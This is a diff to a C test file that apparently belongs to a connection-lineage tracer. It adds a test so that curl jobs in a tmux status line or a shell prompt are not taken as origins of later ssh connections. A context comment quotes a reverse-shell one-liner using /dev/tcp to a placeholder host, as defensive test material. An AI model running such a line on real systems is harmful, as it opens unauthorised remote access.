@@ -584,6 +584,37 @@ static void test_creator_reads_child(void)
 	graph_free(g);
 }
 
+/* what must not become an origin through a creator's history: a terminal
+ * server's status-line job (`#(curl …)` in tmux: the server holds pty masters,
+ * a hub), and a prompt's `$(curl …)` long (> 5 s) before the user's command */
+static void test_creator_history_limits(void)
+{
+	struct graph *g = mk(600, 1000);
+	image(g, 100, 1, "/usr/bin/tmux", 1 * SEC);
+	pty(g, 100, 5, -1, 7, 1 * SEC + 1);
+	mkpipe(g, 100, 3, 4, 980, 2 * SEC);
+	pipe_child(g, 101, 100, 4, 1, "/usr/bin/curl", 2 * SEC + 1);
+	fdop(g, 100, HT_REC_CLOSE, 4, 0, 2 * SEC + 3);
+	connect_tcp(g, 101, 6, 3700, "203.0.113.5", 443, 2 * SEC + 4);
+	fdop(g, 101, HT_REC_CLOSE, 6, 0, 3 * SEC);
+	ok(g, 101, R(HT_REC_EXIT, 3 * SEC + 1));
+	fdop(g, 100, HT_REC_CLOSE, 3, 0, 3 * SEC + 2);
+	onward(g, 102, 100, "/usr/bin/ssh", 3701, 4 * SEC);
+	CHECK_CHAINS(g, 102, 3701, 5 * SEC, "h2:ssh");
+
+	image(g, 110, 1, "/usr/bin/bash", 1 * SEC);
+	mkpipe(g, 110, 3, 4, 981, 2 * SEC);
+	pipe_child(g, 111, 110, 4, 1, "/usr/bin/curl", 2 * SEC + 1);
+	fdop(g, 110, HT_REC_CLOSE, 4, 0, 2 * SEC + 3);
+	connect_tcp(g, 111, 6, 3710, "203.0.113.5", 443, 2 * SEC + 4);
+	fdop(g, 111, HT_REC_CLOSE, 6, 0, 3 * SEC);
+	ok(g, 111, R(HT_REC_EXIT, 3 * SEC + 1));
+	fdop(g, 110, HT_REC_CLOSE, 3, 0, 3 * SEC + 2);
+	onward(g, 112, 110, "/usr/bin/ssh", 3711, 20 * SEC);
+	CHECK_CHAINS(g, 112, 3711, 21 * SEC, "h2:ssh");
+	graph_free(g);
+}
+
 /* a reverse shell (`bash -i >& /dev/tcp/H1/4444`) whose start-up ran
  * `$(stat …)` in a subshell that inherited the connection: the connection is
  * reported on the direct path (bash holds it), not through the pipe it read */
@@ -949,7 +980,7 @@ T_MAIN("graph", T(test_ssh_then_ssh), T(test_reflatten_upstream), T(test_pipe_re
        T(test_no_spurious_origin), T(test_daemonised_after_session),
        T(test_creator_ended_before_birth_seen), T(test_hub_children_not_sources),
        T(test_same_end_not_sources), T(test_recent_history), T(test_departed_feeder),
-       T(test_creator_history), T(test_creator_reads_child),
+       T(test_creator_history), T(test_creator_reads_child), T(test_creator_history_limits),
        T(test_direct_path_first),
        T(test_local_origin), T(test_local_origin_feeders), T(test_local_origin_feeder_once), T(test_pid_reuse), T(test_retention_and_bounds),
        T(test_forged_creator_contradiction), T(test_records_older_than_proc_read), T(test_ghost_fd_inherited), T(test_probe_keeps_tcp_peers), T(test_reconnect_after_failure),
